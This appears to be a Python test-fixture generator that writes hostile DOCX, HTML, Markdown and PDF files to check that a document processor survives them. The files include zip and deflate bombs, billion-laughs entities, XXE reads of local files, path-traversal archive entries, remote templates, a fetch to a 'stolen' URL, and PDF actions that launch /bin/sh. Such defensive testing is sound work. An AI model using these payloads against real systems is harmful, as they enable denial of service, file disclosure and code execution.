"""Files made to do harm: bombs, loops, programs and references. Each must come to nothing, or cost itself alone."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path

HIDDEN = "the-words-of-another-file"
_LAUGHS = 9  # levels of ten: a thousand million laughs
_CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def make_bombs(folder: Path, *, url: str = "http://127.0.0.1:9/", secret: Path | None = None) -> list[Path]:
    """Write one file of each kind into a folder and return them, by name.

    Args:
        folder: an empty one.
        url: that references point to; whoever follows one asks there.
        secret: a file that references name; its content must not be read into another.
    """
    folder.mkdir(parents=True, exist_ok=True)
    named = secret.as_uri() if secret else "file:///etc/hostname"
    files = {**_word_files(url, named), **_web_files(url, named), **_pdf_files(url), **_text_files()}
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return sorted(folder / name for name in files)


def _laughs(root: str, body: str) -> str:
    entities = ['<!ENTITY l0 "ha ha ">']
    entities += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, _LAUGHS + 1)]
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(entities)}]>{body}'


# Word.


def _word_files(url: str, named: str) -> dict[str, bytes]:
    def body(text: str) -> str:
        return f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'

    outside = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "{named}"><!ENTITY % y SYSTEM "{url}x.dtd"> %y;]>'
    template = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'attachedTemplate" Target="{url}evil.dotm" TargetMode="External"/></Relationships>'
    )
    return {
        "zip-bomb.docx": _docx(body("Hospitals."), blank_mb=400),
        "laughs.docx": _docx(_laughs("w", body(f"Ministries laugh. &l{_LAUGHS};"))),
        "outside-entity.docx": _docx(outside + body("Ministries read &x; aloud.")),
        "outside-template.docx": _docx(
            f'<?xml version="1.0"?>{body("Hospitals keep a register.")}', {"word/_rels/document.xml.rels": template}
        ),
        "climbing-names.docx": _docx(
            f'<?xml version="1.0"?>{body("Hospitals keep a register.")}', {"../../climbed.txt": "x", "/climbed": "x"}
        ),
        "no-word.docx": b"PK\x03\x04" + bytes(range(256)) * 40,
    }


def _docx(document: str, further: dict[str, str] | None = None, *, blank_mb: int = 0) -> bytes:
    stream = io.BytesIO()
    parts = {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELATIONS, **(further or {})}
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("word/document.xml", "w") as part:
            part.write(document.encode())
            for _ in range(blank_mb):
                part.write(b" " * 1_000_000)
    return stream.getvalue()


# Web pages and text.


def _web_files(url: str, named: str) -> dict[str, bytes]:
    outside = (
        f'<html><head><link rel="stylesheet" href="{url}a.css"><script src="{url}a.js"></script>'
        f'<meta http-equiv="refresh" content="0; url={url}gone"><base href="{url}"></head><body><h1>Plan</h1>'
        f'<p>Hospitals keep a register of models.</p><img src="{url}a.png"><iframe src="{named}"></iframe>'
        f'<object data="{named}"></object><script>fetch("{url}stolen")</script></body></html>'
    )
    entity = (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "{named}">]><html xmlns="http://www.w3.org/1999/xhtml">'
        "<body><p>Ministries read &x; aloud.</p></body></html>"
    )
    laughing = _laughs("html", f"<html><body><p>Ministries laugh. &l{_LAUGHS};</p></body></html>")
    deep = "<div>" * 60_000 + "Hospitals keep a register." + "</div>" * 60_000
    return {
        "outside.html": outside.encode(), "outside-entity.xhtml": entity.encode(), "laughs.xhtml": laughing.encode(),
        "deep.html": f"<html><body>{deep}</body></html>".encode(),
    }  # fmt: skip


def _text_files() -> dict[str, bytes]:
    return {
        "deep.md": b"> " * 40_000 + b"Hospitals keep a register.\n",
        "brackets.md": b"[" * 60_000 + b"a" + b"](b)" * 60_000,
        "emphasis.md": b"*a **b " * 40_000,
        "one-line.txt": b"register " * 3_000_000,
        "zeros.txt": bytes(5_000_000),
    }


# PDF.

_PLAIN = b"<< /Type /Catalog /Pages 2 0 R"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
)
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_SENTENCE = b"(Hospitals keep a register of models.) Tj "


def _pdf_files(url: str) -> dict[str, bytes]:
    return {**_pdf_actions(url.encode()), **_pdf_loops(), **_pdf_masses()}


def _pdf_actions(address: bytes) -> dict[str, bytes]:
    script = b" /OpenAction << /S /JavaScript /JS (app.launchURL\\('" + address + b"js'\\)) >> >>"
    launch = b" /OpenAction << /S /Launch /F (/bin/sh) >> /AA << /WC << /S /URI /URI (" + address + b"aa) >> >> >>"
    outside = b" /OpenAction << /S /GoToR /F << /FS /URL /F (" + address + b"r.pdf) >> /D [0 /Fit] >> >>"
    return {
        "script.pdf": _pdf(_PLAIN + script), "launch.pdf": _pdf(_PLAIN + launch), "outside.pdf": _pdf(_PLAIN + outside),
        "embedded.pdf": _pdf(
            _PLAIN + b" /Names << /EmbeddedFiles << /Names [(a.txt) 6 0 R] >> >> >>",
            further=[b"<< /Type /Filespec /F (a.txt) /EF << /F 7 0 R >> >>", _stream(HIDDEN.encode())],
        ),
    }  # fmt: skip


def _pdf_loops() -> dict[str, bytes]:
    form = (
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 300 300] /Resources << /XObject << /X 4 0 R >> >> /Length 5 >>"
        b"\nstream\n/X Do\nendstream"
    )
    return {
        "looped-pages.pdf": _pdf(pages=b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 >>"),
        "looped-outline.pdf": _pdf(
            _PLAIN + b" /Outlines 6 0 R >>",
            further=[
                b"<< /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Plan) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
            ],
        ),
        "looped-labels.pdf": _pdf(_PLAIN + b" /PageLabels 6 0 R >>", further=[b"<< /Kids [6 0 R] >>"]),
        "looped-form.pdf": _pdf(
            page=_PAGE.replace(b"/Font << /F 5 0 R >>", b"/XObject << /X 4 0 R >>"), content=form
        ),
    }  # fmt: skip


def _pdf_masses() -> dict[str, bytes]:
    return {
        "flate-bomb.pdf": _pdf(content=_packed(b" " * 1_000_000, 1000)),
        "much-text.pdf": _pdf(content=_packed(_SENTENCE * 1000, 2000, head=b"BT /F 12 Tf ", tail=b"ET")),
        "many-pages.pdf": _pdf(pages=b"<< /Type /Pages /Kids [" + b"3 0 R " * 200_000 + b"] /Count 200000 >>"),
        "deep-arrays.pdf": _pdf(_PLAIN + b" /X " + b"[" * 100_000 + b"]" * 100_000 + b" >>"),
    }


def _packed(part: bytes, times: int, *, head: bytes = b"", tail: bytes = b"") -> bytes:
    """Return a packed stream of one part many times over, which is never held whole."""
    packer = zlib.compressobj(1)
    data = packer.compress(head) + b"".join(packer.compress(part) for _ in range(times))
    data += packer.compress(tail) + packer.flush()
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data)


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


def _pdf(
    catalogue: bytes = _PLAIN + b" >>", *, pages: bytes = _PAGES, page: bytes = _PAGE,
    content: bytes = _stream(b"BT /F 12 Tf 20 200 Td " + _SENTENCE + b"ET"), further: Sequence[bytes] = (),
) -> bytes:  # fmt: skip
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, written in enumerate([catalogue, pages, page, content, _FONT, *further], start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start)
    return bytes(out)
